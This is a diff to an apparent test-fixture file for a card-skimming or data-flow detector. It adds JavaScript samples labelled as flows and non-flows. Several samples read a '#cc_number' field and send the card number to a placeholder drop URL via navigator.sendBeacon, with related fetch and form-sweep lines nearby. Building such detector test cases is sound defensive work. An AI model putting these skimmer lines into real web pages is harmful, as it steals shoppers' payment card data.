@@ -129,6 +129,12 @@ FLOWS = {
         "Object.defineProperty(proto, 'value', {configurable: true, get: getter});\n"
         f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
         f"body: JSON.stringify(seen)}}); }}, 3000);"),
+    "card number stripped to its digits": (
+        "var pan = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
+        f"navigator.sendBeacon('{DROP}', pan);"),
+    "a helper that reads arguments": (
+        "function pick() { return arguments[0]; }\n"
+        f"navigator.sendBeacon('{DROP}', pick(document.querySelector('#cc_number').value));"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -174,6 +180,12 @@ NO_FLOWS = {
     "a mask list handed to a helper": (
         "function masked(re) { return document.querySelector('#cc_number').value.length; }\n"
         f"navigator.sendBeacon('{DROP}', String(masked(/cc-|card|cvv|pass|ssn/)));"),
+    "a brand and a check computed by the script's own functions": (
+        "function brandOf(d) { if (/^4/.test(d)) return 'visa'; return d ? 'other' : ''; }\n"
+        "function luhn(d) { var s = 0; for (var i = 0; i < d.length; i++) s += +d[i];"
+        " return s % 10 === 0; }\n"
+        "var n = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
+        f"navigator.sendBeacon('{DROP}', JSON.stringify({{b: brandOf(n), ok: luhn(n)}}));"),
     "negated": "var n = document.querySelector('#cc_number').value;\n"
                f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
     # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
